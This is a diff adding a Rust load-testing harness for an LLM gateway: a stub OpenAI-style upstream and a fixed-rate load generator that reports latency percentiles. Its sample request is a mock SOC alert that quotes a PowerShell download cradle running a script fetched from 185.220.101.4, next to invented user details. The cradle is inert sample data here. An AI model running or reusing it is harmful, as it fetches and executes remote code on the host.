@@ -1,0 +1,164 @@
+//! The gateway's latency harness: a zero-delay OpenAI upstream, and an open-loop load generator
+//! at a fixed request rate (latency measured from each request's scheduled time, so a stall
+//! counts against every request it delays).
+//!
+//! ```text
+//! gateway_load upstream --listen 127.0.0.1:9100
+//! gateway_load load --url http://127.0.0.1:8080/v1/chat/completions --token rmp_… \
+//!     --model rempart/bench --rate 2000 --seconds 20
+//! ```
+//!
+//! `scripts/bench-gateway` runs both against `rempart serve` and against the upstream directly.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::print_stdout,
+    clippy::disallowed_methods,
+    reason = "a benchmark harness: failures abort the run, results go to stdout"
+)]
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::{Duration, Instant};
+
+use axum::Router;
+use axum::routing::post;
+use serde_json::{Value, json};
+
+/// A triage request as a SOC tool sends one: an alert with its personal data.
+fn body(model: &str) -> Value {
+    json!({"model": model, "temperature": 0, "messages": [
+        {"role": "system", "content": "You are a SOC analyst. Answer with a verdict and a one-line reason."},
+        {"role": "user", "content": "Alert: Suspicious PowerShell download cradle on ws-042.corp.example.\n\
+            User CORP\\alice (alice.martin@corp.example) ran powershell.exe -nop -w hidden -c \
+            \"IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.4/a.ps1')\" \
+            from C:\\Users\\alice\\Downloads. Source 10.20.30.40:49812 -> 185.220.101.4:80. \
+            Parent: WINWORD.EXE (pid 4242). SID S-1-5-21-1004336348-1177238915-682003330-1106. \
+            Earlier: 3 failed logons for bob@corp.example from 10.20.30.41."}
+    ]})
+}
+
+async fn upstream(listen: &str) {
+    let answer = json!({"id": "chatcmpl-bench", "object": "chat.completion", "created": 1, "model": "bench",
+        "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant",
+            "content": "Verdict: malicious. The host contacted 185.220.101.4 after a macro launched PowerShell."}}],
+        "usage": {"prompt_tokens": 120, "completion_tokens": 20, "total_tokens": 140}});
+    let answer = Arc::new(serde_json::to_vec(&answer).unwrap());
+    let app = Router::new().route(
+        "/v1/chat/completions",
+        post(move |_body: axum::body::Bytes| {
+            let answer = answer.clone();
+            async move { ([("content-type", "application/json")], answer.as_ref().clone()) }
+        }),
+    );
+    let listener = tokio::net::TcpListener::bind(listen).await.unwrap();
+    println!("upstream listening on {}", listener.local_addr().unwrap());
+    axum::serve(listener, app).await.unwrap();
+}
+
+fn percentile(sorted: &[u64], p: f64) -> f64 {
+    if sorted.is_empty() {
+        return f64::NAN;
+    }
+    let rank = ((p / 100.0) * (sorted.len() as f64 - 1.0)).round() as usize;
+    sorted[rank.min(sorted.len() - 1)] as f64 / 1000.0
+}
+
+async fn load(url: String, token: Option<String>, model: String, rate: u64, seconds: u64, max_in_flight: u64) {
+    let client = reqwest::Client::builder().pool_max_idle_per_host(1024).build().unwrap();
+    let payload = Arc::new(serde_json::to_vec(&body(&model)).unwrap());
+    let total = rate * seconds;
+    let interval = Duration::from_secs_f64(1.0 / rate as f64);
+    let in_flight = Arc::new(AtomicU64::new(0));
+    let errors = Arc::new(AtomicU64::new(0));
+    let shed = Arc::new(AtomicU64::new(0));
+    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<u64>();
+    // Warm the connection pool.
+    for _ in 0..50 {
+        let mut rb = client
+            .post(&url)
+            .header("content-type", "application/json")
+            .body(payload.as_ref().clone());
+        if let Some(t) = &token {
+            rb = rb.bearer_auth(t);
+        }
+        let _ = rb.send().await.unwrap().bytes().await;
+    }
+    let start = Instant::now();
+    for i in 0..total {
+        let scheduled = start + interval.mul_f64(i as f64);
+        tokio::time::sleep_until(scheduled.into()).await;
+        if in_flight.load(Ordering::Relaxed) >= max_in_flight {
+            shed.fetch_add(1, Ordering::Relaxed);
+            continue;
+        }
+        in_flight.fetch_add(1, Ordering::Relaxed);
+        let mut rb = client
+            .post(&url)
+            .header("content-type", "application/json")
+            .body(payload.as_ref().clone());
+        if let Some(t) = &token {
+            rb = rb.bearer_auth(t);
+        }
+        let (tx, in_flight, errors) = (tx.clone(), in_flight.clone(), errors.clone());
+        tokio::spawn(async move {
+            let ok = match rb.send().await {
+                Ok(r) => r.status().is_success() && r.bytes().await.is_ok(),
+                Err(_) => false,
+            };
+            if ok {
+                let _ = tx.send(u64::try_from(scheduled.elapsed().as_micros()).unwrap_or(u64::MAX));
+            } else {
+                errors.fetch_add(1, Ordering::Relaxed);
+            }
+            in_flight.fetch_sub(1, Ordering::Relaxed);
+        });
+    }
+    drop(tx);
+    let mut lat = Vec::with_capacity(usize::try_from(total).unwrap_or(0));
+    while let Some(us) = rx.recv().await {
+        lat.push(us);
+    }
+    let elapsed = start.elapsed().as_secs_f64();
+    lat.sort_unstable();
+    let out = json!({
+        "url": url, "rate": rate, "seconds": seconds, "requests": total, "ok": lat.len(),
+        "errors": errors.load(Ordering::Relaxed), "shed": shed.load(Ordering::Relaxed),
+        "achieved_rps": lat.len() as f64 / elapsed,
+        "p50_ms": percentile(&lat, 50.0), "p90_ms": percentile(&lat, 90.0), "p99_ms": percentile(&lat, 99.0),
+        "p999_ms": percentile(&lat, 99.9), "max_ms": percentile(&lat, 100.0),
+    });
+    println!("{out}");
+}
+
+#[tokio::main]
+async fn main() {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let get = |name: &str| {
+        args.iter()
+            .position(|a| a == name)
+            .and_then(|i| args.get(i + 1))
+            .cloned()
+    };
+    match args.first().map(String::as_str) {
+        Some("upstream") => upstream(&get("--listen").unwrap_or_else(|| "127.0.0.1:9100".into())).await,
+        Some("load") => {
+            load(
+                get("--url").expect("--url"),
+                get("--token"),
+                get("--model").unwrap_or_else(|| "rempart/bench".into()),
+                get("--rate").map_or(1000, |r| r.parse().expect("--rate N")),
+                get("--seconds").map_or(20, |s| s.parse().expect("--seconds N")),
+                get("--max-in-flight").map_or(2048, |s| s.parse().expect("--max-in-flight N")),
+            )
+            .await;
+        }
+        _ => {
+            eprintln!(
+                "usage: gateway_load upstream [--listen ADDR] | load --url URL [--token T] [--model M] [--rate N] [--seconds N]"
+            );
+            std::process::exit(2);
+        }
+    }
+}
